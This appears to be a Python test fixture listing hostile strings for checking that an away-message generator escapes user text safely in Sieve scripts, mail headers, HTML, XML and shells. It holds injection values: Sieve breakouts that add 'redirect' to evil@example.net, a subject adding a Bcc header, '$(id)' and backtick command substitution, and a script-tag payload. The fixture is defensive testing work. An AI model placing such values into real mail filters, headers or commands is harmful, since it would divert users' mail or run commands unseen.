"""Texts of people that could be more than text to what they are put into: Sieve, JSON, XML, HTML, mail headers, a shell."""

HOSTILE = {
    "quotes": '" ; redirect "evil@example.net" ; "',
    "backslashes": 'a\\b \\" \\\\ ends with \\',
    "lone dot": 'before\n.\nredirect "evil@example.net";\n..\nafter',
    "text block": 'text:\n.\n;\nredirect "evil@example.net";\n',
    "end of a comment": '*/ redirect "evil@example.net"; /* # \r\nstop;',
    "variables": "${subject} ${1} ${unicode:0041} ${hex:41} %{user} %s {0} $(id) `id`",
    "mime headers": "Content-Type: text/html\n\n<script>alert(1)</script>\n--boundary\n--boundary--\n",
    "emoji and scripts": "🏖️ Łukasz Zażółć 北京 עברית é e\u0301",
    "long line": "x" * 5000 + " end",
    "spaces at line ends": "a \n\tb\t\n \n\nFrom me\n=3D =\nend",
    "bidirectional marks": "abc\u202edef\u2066ghi\u2069",
    "xml sections": "a]]>b <![CDATA[c]]> <!-- d --> <?e?> <!DOCTYPE f>",
    "entities": "&lt;b&gt; &amp;amp; &#60;i&#62; &nbsp; &none; & <b onclick='x'>y</b><br/>",
    "surrogate pairs": "\U0001f600 \U0001f468\u200d\U0001f469 \U0010fffd \\ud83d\\ude00",
    "curly quotes": "\u2018it\u2019s\u2019; \u201cq\u201d \u201aw\u201b; Remove-Mailbox \u2018",
    "controls": "a\x00b\x07c\x1b[31md\x7f",
    "carriage return alone": "a\rb\r\rredirect",
}

SUBJECTS = {
    "quotes": '" ; redirect "evil@example.net" ; "',
    "backslashes": 'a\\b \\" ends with \\',
    "encoded word": "=?utf-8?q?=22?= ${subject}",
    "emoji": "🏖️ afwezig, Łukasz",
    "long": "onderwerp " * 60,
    "header injection": "Away\r\nBcc: evil@example.net\r\nX-Evil: yes",
    "controls": "a\x00b\x1bc",
}
